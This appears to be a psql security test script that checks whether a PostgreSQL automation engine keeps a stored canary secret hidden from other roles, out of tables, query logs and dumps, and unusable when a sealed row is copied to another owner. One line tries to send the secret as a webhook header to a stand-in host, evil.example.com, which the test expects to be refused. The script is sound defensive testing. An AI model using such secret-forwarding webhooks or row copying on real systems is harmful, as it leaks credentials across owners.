-- attack: see or use a secret of another role
-- attacker: owner_b, an author; viewer, operator, admin; a person with a dump
-- must not happen: the value is shown, stands in a row or a dump, or is used for another role's message
\i :attack_lib
\c attack owner_a
SELECT automation.set_secret('token', 'canary-a10-0123456789', host => 'api.example.com');
SELECT attack.held(NOT EXISTS (SELECT FROM automation.secrets AS s WHERE s::text LIKE '%canary%'), 'its own owner is not shown the value');
SELECT attack.refused($$ SELECT automation.set_endpoint('e', 'https://evil.example.com/', headers => '{"X": {"secret": "token"}}') $$, '22023');
\c attack owner_b
SELECT attack.held(count(*) = 0, 'another author does not see the name') FROM automation.secrets;
SELECT attack.refused($$ SELECT automation.set_endpoint('e', 'https://api.example.com/', secret => 'token') $$, '42704');
SELECT attack.refused($$ SELECT automation.set_endpoint('e', 'https://api.example.com/', secret => 'token', owner => 'owner_a') $$, '42501');
SELECT attack.refused($$ SELECT automation.set_secret('token', 'mine', owner => 'owner_a') $$, '42501');
SELECT attack.refused($$ SELECT automation.drop_secret('token', owner => 'owner_a') $$, '42501');
SELECT attack.refused($$ SELECT * FROM automation.define('b-send', trigger => automation.on_call(), steps => ARRAY[
    automation.webhook('https://api.example.com/', headers => '{"X": {"secret": "token"}}')]) $$, '%');
\c attack viewer
SELECT attack.held(count(*) = 0, 'a viewer does not see the name') FROM automation.secrets;
SELECT attack.refused($$ SELECT sealed FROM automation_internal.secret $$, '42501');
\c attack adm
SELECT attack.held(count(*) = 0, 'an admin does not see the name') FROM automation.secrets;
SELECT attack.refused($$ SELECT sealed FROM automation_internal.secret $$, '42501');
\c attack postgres
-- every table and view of the engine, also those that no role may read
CREATE FUNCTION pg_temp.holds(rel regclass) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
    found boolean;
BEGIN
    EXECUTE format('SELECT EXISTS (SELECT FROM %s AS t WHERE t::text LIKE ''%%canary-'' || ''a10%%''
                                      OR t::text LIKE ''%%'' || encode(''canary-a10''::bytea, ''hex'') || ''%%'')', rel) INTO found;
    RETURN found;
END $$;
SELECT attack.held(NOT bool_or(pg_temp.holds(c.oid)), 'no row of ' || count(*) || ' relations holds the value')
  FROM pg_class AS c
 WHERE c.relnamespace IN ('automation'::regnamespace, 'automation_internal'::regnamespace) AND c.relkind IN ('r', 'v', 'p');
SELECT attack.held(count(*) = 0, 'pg_stat_activity does not hold it either')
  FROM pg_stat_activity WHERE query LIKE '%canary-' || 'a10%' AND pid <> pg_backend_pid();
\setenv CANARY canary-a10
\! pg_dump -d "host=$PGHOST port=$PGPORT dbname=attack user=postgres" | grep -c "$CANARY" > /tmp/attack_dump_hits.$PPID; pg_dump -a -t automation_internal.secret -d "host=$PGHOST port=$PGPORT dbname=attack user=postgres" | grep -c "$CANARY" >> /tmp/attack_dump_hits.$PPID
\set hits `cat /tmp/attack_dump_hits.$PPID | tr '\n' ' '; rm -f /tmp/attack_dump_hits.$PPID`
SELECT attack.held(:'hits' = '0 0 ', 'a dump does not hold it');
-- a row copied to another owner cannot be opened: what it is sealed for is part of the seal
INSERT INTO automation_internal.secret SELECT (jsonb_populate_record(s, jsonb_build_object('owner', 'owner_b'::regrole::oid, 'owner_name', 'owner_b'))).*
  FROM automation_internal.secret AS s WHERE s.name = 'token';
SELECT automation.allow_egress('owner_b', 'api.example.com', cidr => '127.0.0.0/8');
\c attack owner_b
SELECT automation.define('b-send', trigger => automation.on_call(), steps => ARRAY[
    automation.webhook('https://api.example.com/', headers => '{"X": {"secret": "token"}}')]);
SELECT automation.start_run('b-send');
SELECT attack.wait_for($$ SELECT EXISTS (SELECT FROM automation.deliveries WHERE last_error IS NOT NULL) $$);
SELECT attack.held(last_error LIKE '%cannot be opened%' AND state <> 'delivered', 'the copy is of no use: ' || last_error) FROM automation.deliveries;
